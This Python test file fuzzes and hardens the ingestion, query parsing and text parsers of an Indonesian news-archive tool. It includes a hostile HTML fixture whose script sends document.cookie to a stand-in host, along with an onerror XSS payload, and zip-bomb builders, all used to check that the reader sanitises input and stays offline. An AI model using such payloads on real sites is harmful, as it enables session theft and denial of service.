"""Hostile and malformed input: fuzzed readers, query parser, number/date/statistic parsers and splitter."""

from __future__ import annotations

import io
import json
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from fuzz_targets import VOCAB, check_query, check_reader, check_text_parsers
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from reliability_helpers import SRC, cli, store_rows

from arsip_berita.core.errors import IngestError
from arsip_berita.core.model import Article
from arsip_berita.ingest.readers import read_path
from arsip_berita.archive.service import ArchiveService

FUZZ = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
MB = 1024 * 1024

# Text made of the parsers' own vocabulary, numbers (up to 12 digits) and arbitrary characters.
tokens = st.one_of(st.sampled_from(VOCAB), st.integers(0, 10**12).map(str),
                   st.text(min_size=1, max_size=6), st.sampled_from([" ", " ", "  "]))
texts = st.lists(tokens, max_size=120).map(" ".join)


def _items(path: Path) -> list[Article | IngestError]:
    return list(read_path(path))


# --- readers -----------------------------------------------------------------------------------
@FUZZ
@given(data=st.binary(max_size=3000), suffix=st.sampled_from([".txt", ".md", ".html", ".json", ".jsonl", ".xml"]))
def test_fuzz_text_readers_with_random_bytes(data: bytes, suffix: str) -> None:
    check_reader(data, suffix)


@FUZZ
@given(text=texts, encoding=st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "cp1252", "latin-1"]),
       suffix=st.sampled_from([".txt", ".html", ".xml"]))
def test_fuzz_text_readers_with_encoded_text(text: str, encoding: str, suffix: str) -> None:
    check_reader(text.encode(encoding, errors="replace"), suffix)


json_values = st.recursive(st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=30),
                           lambda kids: st.lists(kids, max_size=4) | st.dictionaries(st.text(max_size=8), kids, max_size=4),
                           max_leaves=20)
json_objects = st.fixed_dictionaries({}, optional={k: json_values | texts for k in
                                                   ("title", "body", "content", "text", "date", "source", "url")})


@FUZZ
@given(objs=st.lists(json_objects | json_values, min_size=1, max_size=5))
def test_fuzz_json_with_wrong_types(objs: list[object]) -> None:
    check_reader(json.dumps(objs).encode(), ".json")
    check_reader("\n".join(json.dumps(o) for o in objs).encode(), ".jsonl")


@FUZZ
@given(entries=st.lists(st.tuples(texts, texts), min_size=1, max_size=3), cut=st.integers(0, 400))
def test_fuzz_rss(entries: list[tuple[str, str]], cut: int) -> None:
    from xml.sax.saxutils import escape

    items = "".join(f"<item><title>{escape(t)}</title><description>{escape(b)}</description></item>"
                    for t, b in entries)
    doc = f'<?xml version="1.0"?><rss version="2.0"><channel><title>x</title>{items}</channel></rss>'.encode()
    check_reader(doc, ".xml")
    check_reader(doc[:cut], ".xml")


def _docx_bytes(paragraphs: list[str]) -> bytes:
    import docx

    document = docx.Document()
    for p in paragraphs:
        document.add_paragraph("".join(ch for ch in p if ch.isprintable() or ch in "\t\n"))
    buf = io.BytesIO()
    document.save(buf)
    return buf.getvalue()


@settings(max_examples=15, deadline=None)
@given(paragraphs=st.lists(texts, min_size=1, max_size=4), cut=st.integers(0, 20000), flip=st.integers(0, 20000))
def test_fuzz_docx_truncated_and_flipped(paragraphs: list[str], cut: int, flip: int) -> None:
    data = _docx_bytes(paragraphs)
    check_reader(data, ".docx")
    check_reader(data[:cut], ".docx")
    garbled = bytearray(data)
    garbled[flip % len(garbled)] ^= 0x5A
    check_reader(bytes(garbled), ".docx")


def _pdf_bytes(text_layer: bool) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


@settings(max_examples=25, deadline=None)
@given(cut=st.integers(0, 2000), flip=st.integers(0, 2000), junk=st.binary(max_size=200))
def test_fuzz_pdf_truncated_and_flipped(cut: int, flip: int, junk: bytes) -> None:
    data = _pdf_bytes(False)
    check_reader(data[:cut], ".pdf")
    garbled = bytearray(data)
    garbled[flip % len(garbled)] ^= 0xFF
    check_reader(bytes(garbled), ".pdf")
    check_reader(b"%PDF-1.4\n" + junk, ".pdf")


def test_pdf_without_text_layer_is_reported_as_such(tmp_path: Path) -> None:
    path = tmp_path / "pindaian.pdf"
    path.write_bytes(_pdf_bytes(False))
    [item] = _items(path)
    assert isinstance(item, IngestError) and "lapisan teks" in item.reason


def test_zip_bomb_as_docx_is_refused_quickly(tmp_path: Path) -> None:
    path = tmp_path / "bom.docx"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("word/document.xml", b"\0" * (300 * MB))  # compresses to about 300 KB
    assert path.stat().st_size < 2 * MB
    started = time.perf_counter()
    [item] = _items(path)
    assert time.perf_counter() - started < 2
    assert isinstance(item, IngestError) and "terlalu besar" in item.reason


def test_nested_zip_bomb_entry_count_is_bounded(tmp_path: Path) -> None:
    """Many small entries that together inflate past the limit are refused too."""
    path = tmp_path / "banyak.docx"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        for i in range(30):
            zf.writestr(f"word/media/image{i}.bin", b"A" * (8 * MB))
    [item] = _items(path)
    assert isinstance(item, IngestError)


# --- must-cover cases ------------------------------------------------------------------------------
def test_invalid_utf8_mixed_encodings_and_nul_bytes(tmp_path: Path) -> None:
    mixed = ("Banjir Rendam Desa di Kotawaringin\n\n".encode() + "Warga café menerima bantuan ".encode("cp1252")
             + b"\xff\xfe\x80 senilai Rp 2,5 miliar.\n" + "Petugas BPBD menyalurkan 145.630 paket.".encode())
    p = tmp_path / "campuran.txt"
    p.write_bytes(mixed)
    [art] = _items(p)
    assert isinstance(art, Article) and "145.630" in art.body
    q = tmp_path / "nul.txt"
    q.write_bytes(b"Judul Biasa\n\nIsi dengan NUL\0 di tengah kalimat yang panjang sekali untuk uji coba.\n")
    for item in _items(q):
        assert isinstance(item, (Article, IngestError))
        if isinstance(item, Article):
            assert "\0" not in item.body
    r = tmp_path / "biner.txt"
    r.write_bytes(bytes(range(256)) * 40)
    [err] = _items(r)
    assert isinstance(err, IngestError) and "biner" in err.reason


@pytest.mark.parametrize("suffix", [".txt", ".html", ".json", ".jsonl"])
def test_one_megabyte_single_line(tmp_path: Path, suffix: str) -> None:
    line = ("kata " * (MB // 5)).strip()
    data = {".txt": f"Judul Panjang\n\n{line}", ".html": f"<html><body><h1>Judul</h1><p>{line}</p></body></html>",
            ".json": json.dumps({"title": "Judul", "body": line}), ".jsonl": json.dumps({"title": "Judul", "body": line})}
    assert check_reader(data[suffix].encode(), suffix) == 1


def test_deeply_nested_html(tmp_path: Path) -> None:
    depth = 10_000
    html = ("<html><body>" + "<div>" * depth + "<p>Bupati Kotim meresmikan jembatan baru di Sampit pada hari ini.</p>"
            + "</div>" * depth + "</body></html>")
    assert check_reader(html.encode(), ".html") == 1


HOSTILE_HTML = """<html><head><title>Pemkab Gelar Rapat Anggaran</title>
<script>document.location='http://example.invalid/steal?c='+document.cookie</script></head><body>
<article><h1>Pemkab Gelar Rapat Anggaran</h1>
<p>Sampit - Pemerintah kabupaten menggelar rapat anggaran tahun 2025 bersama perangkat daerah.</p>
<p>Rapat membahas belanja modal senilai Rp 12,5 miliar untuk jalan dan jembatan di kecamatan.</p>
<iframe src="http://example.invalid/frame"></iframe><img src="http://example.invalid/pixel.gif" onerror="alert(1)">
<p>Kode &lt;b&gt;tebal&lt;/b&gt; dan &lt;script&gt;alert(2)&lt;/script&gt; tertulis sebagai teks.</p>
</article></body></html>"""


def test_html_with_script_iframe_and_remote_images(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import socket

    def no_network(*args: object, **kwargs: object) -> None:
        raise AssertionError("the reader tried to open a network connection")

    monkeypatch.setattr(socket.socket, "connect", no_network)
    monkeypatch.setattr(socket, "create_connection", no_network)
    p = tmp_path / "jahat.html"
    p.write_text(HOSTILE_HTML, encoding="utf-8")
    [art] = _items(p)
    assert isinstance(art, Article)
    assert "document.cookie" not in art.body and "example.invalid" not in art.body
    assert "<script>alert(2)</script>" in art.body  # written-out markup stays as text
    # Rendering escapes it: the brief (viewer and printouts share this HTML) shows it as text.
    from arsip_berita.summary.render import BriefOptions, brief_html
    from arsip_berita.summary.summarizer import summarize

    page = brief_html(art, None, summarize(art.title, art.body), options=BriefOptions(full_text=True),
                      archive_name="uji")
    assert "<script>alert(2)" not in page and "&lt;script&gt;alert(2)" in page


def test_paths_with_spaces_and_non_ascii_names(tmp_path: Path) -> None:
    folder = tmp_path / "Siaran Pers — Kalimantan Tengah" / "März é 日本"
    folder.mkdir(parents=True)
    (folder / "rilis satu – ü.txt").write_text("Judul Rilis Satu Soal Jalan\n\nIsi rilis tentang jalan desa "
                                               "yang diperbaiki pemerintah kabupaten.\n", encoding="utf-8")
    (folder / "ß rilis dua.md").write_text("# Judul Rilis Dua Soal Air\n\nIsi rilis tentang air bersih untuk "
                                           "warga kecamatan.\n", encoding="utf-8")
    archive = tmp_path / "arsip è"
    proc = cli(archive, "import", str(tmp_path / "Siaran Pers — Kalimantan Tengah"))
    assert proc.returncode == 0, proc.stderr
    assert len(store_rows(archive)) == 2
    shown = cli(archive, "list", "--json")
    assert "Rilis Satu" in shown.stdout and "Rilis Dua" in shown.stdout


# --- query parser -------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def query_archive(built_archive: Path) -> ArchiveService:
    svc = ArchiveService.open(built_archive, readonly=True)
    yield svc
    svc.close()


query_tokens = st.one_of(st.sampled_from(['"', "(", ")", "OR", "AND", "NOT", "-", "+", "*", "~", ":", "..",
                                          "pejabat:", "tanggal:", "tempat:", "instansi:", "jabatan:", "sumber:",
                                          "indikator:", "date:", "x:", "2024-13", "2024-12-01..2024-01-01",
                                          "kemiskinan", "rapat", "Kalteng", "BPS", "~2", "^3", "[", "]", "{", "}",
                                          "\\", "'", "\0", "\u200b"]),
                         st.text(max_size=8))


@settings(max_examples=60, deadline=None)
@given(parts=st.lists(query_tokens, max_size=12), joiner=st.sampled_from(["", " "]))
def test_fuzz_query_parser(query_archive: ArchiveService, parts: list[str], joiner: str) -> None:
    check_query(query_archive, joiner.join(parts))


@pytest.mark.parametrize("query", ["NOT OR -", "NOT AND x", "- OR", "a" * 1999, "(" * 500 + "x" + ")" * 500, '"' + "rapat " * 300 + '"',
                                   "tanggal:" + "9" * 1000, "x* " * 400, "kemiskinan~" * 150,
                                   " OR ".join(["rapat"] * 300), "-" * 1500, "pejabat:" + '"' + "a " * 900 + '"'])
def test_pathological_queries_are_bounded(query_archive: ArchiveService, query: str) -> None:
    started = time.perf_counter()
    check_query(query_archive, query)
    assert time.perf_counter() - started < 5


# --- number, date and statistic parsers; sentence splitter ----------------------------------------
@FUZZ
@given(text=texts)
def test_fuzz_text_parsers(text: str) -> None:
    check_text_parsers(text)


@settings(max_examples=60, deadline=None)
@given(text=st.text(max_size=400))
def test_fuzz_text_parsers_with_any_characters(text: str) -> None:
    check_text_parsers(text)


def _bounded(code: str, timeout: float) -> subprocess.CompletedProcess[str]:
    """Run ``code`` in a fresh interpreter (so a runaway call can be stopped) with a time limit."""
    prog = f"import sys; sys.path.insert(0, {str(SRC)!r})\n{code}"
    return subprocess.run([sys.executable, "-c", prog], capture_output=True, text=True, timeout=timeout)


@pytest.mark.parametrize("unit", ["a", " ", ".", "1.", "-", "\0", "Kepala Dinas ", "dua puluh ", "3/12/"])
def test_megabyte_inputs_are_bounded(unit: str) -> None:
    code = (f"import time\nfrom arsip_berita.summary.splitter import split\n"
            f"from arsip_berita.extraction.dates import find_dates\nfrom arsip_berita.language.lexicon import load_lexicon\n"
            f"from arsip_berita.extraction.numbers import parse_number\nlex = load_lexicon()\n"
            f"text = ({unit!r} * {MB})[:{MB}]\nt = time.perf_counter()\n"
            f"split(text); find_dates(text, lex); parse_number(text, lex)\nprint(time.perf_counter() - t)")
    proc = _bounded(code, 60)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert float(proc.stdout) < 6  # three parsers, 2 s each


@pytest.mark.parametrize("unit", ["a", " ", "-", "\0", "Kepala Dinas ", "dua puluh ", "3/12/", "1."])
def test_extraction_of_large_inputs_is_bounded(unit: str) -> None:
    size = 200_000
    code = (f"import time\nfrom arsip_berita.extraction import extract\ntext = ({unit!r} * {size})[:{size}]\n"
            f"t = time.perf_counter()\nextract(text)\nprint(time.perf_counter() - t)")
    proc = _bounded(code, 60)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert float(proc.stdout) < 4


@pytest.mark.parametrize("unit", ["Rp 1,2 triliun naik 0,06 poin dari 5,11 persen pada 3 Desember 2024. ", '"Budi '])
def test_extraction_of_dense_text_is_bounded(unit: str) -> None:
    size = 100_000
    code = (f"import time\nfrom arsip_berita.extraction import extract\ntext = ({unit!r} * {size})[:{size}]\n"
            f"t = time.perf_counter()\nextract(text)\nprint(time.perf_counter() - t)")
    # Generous bounds for a shared machine: about 1 s here; the superlinear version took 13-23 s.
    proc = _bounded(code, 30)
    assert proc.returncode == 0 and float(proc.stdout) < 10


def test_long_digit_runs_do_not_crash_the_number_parser() -> None:
    check_text_parsers("Nomor registrasi 123456789012345678901234567890 tercatat 5 persen.")


def test_an_extraction_crash_does_not_stop_the_import(tmp_path: Path) -> None:
    """Whatever the extractor does, the article is stored (without extraction) and the rest goes on."""
    src = tmp_path / "sumber"
    src.mkdir()
    (src / "a_biasa.txt").write_text("Rapat Biasa di Sampit\n\nRapat koordinasi biasa membahas air bersih "
                                     "di Sampit.\n", encoding="utf-8")
    (src / "b_angka.txt").write_text("Nomor Registrasi yang Sangat Panjang\n\nNomor registrasi "
                                     f"{'9' * 40} tercatat 5 persen dalam rapat.\n", encoding="utf-8")
    (src / "c_biasa.txt").write_text("Rapat Lain di Kupang\n\nRapat koordinasi lain membahas jalan di Kupang.\n",
                                     encoding="utf-8")
    archive = tmp_path / "arsip"
    proc = cli(archive, "import", str(src), "--processes", "1")
    assert "Traceback" not in proc.stderr, proc.stderr
    assert len(store_rows(archive)) == 3, proc.stderr
